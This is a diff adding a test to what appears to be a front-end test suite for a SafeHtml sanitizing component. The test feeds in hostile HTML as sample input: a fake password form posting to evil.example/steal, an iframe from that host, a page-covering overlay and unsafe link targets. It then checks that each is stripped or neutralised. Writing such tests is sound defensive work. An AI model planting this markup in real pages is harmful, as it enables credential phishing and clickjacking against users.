@@ -23,3 +23,25 @@ it('keeps the article markup and drops scripts, event handlers and javascript: l
   expect(markup).not.toContain('onerror');
   expect(window.pwned).toBeUndefined();
 });
+
+it('drops styles, forms and frames, and makes every link safe to open', () => {
+  render(
+    <SafeHtml
+      html={
+        '<p style="position:fixed;inset:0;z-index:9999">Overlay</p>' +
+        '<form action="https://evil.example/steal"><label>Password <input type="password" name="password"></label><button>Sign in</button></form>' +
+        '<iframe title="Frame" src="https://evil.example"></iframe><style>body{display:none}</style>' +
+        '<a href="https://example.com/a" target="_blank" rel="opener">New tab</a><a href="https://example.com/b" target="console">Named frame</a>'
+      }
+    />,
+  );
+  expect(screen.getByText('Overlay')).not.toHaveAttribute('style');
+  expect(screen.queryByRole('form')).not.toBeInTheDocument();
+  expect(screen.queryByLabelText(/Password/)).not.toBeInTheDocument();
+  expect(screen.queryByRole('button')).not.toBeInTheDocument();
+  expect(screen.queryByTitle('Frame')).not.toBeInTheDocument();
+  expect(screen.getByRole('link', { name: 'New tab' })).toHaveAttribute('target', '_blank');
+  expect(screen.getByRole('link', { name: 'New tab' })).toHaveAttribute('rel', 'noopener noreferrer');
+  expect(screen.getByRole('link', { name: 'Named frame' })).not.toHaveAttribute('target');
+  expect(screen.getByRole('link', { name: 'Named frame' })).toHaveAttribute('rel', 'noopener noreferrer');
+});
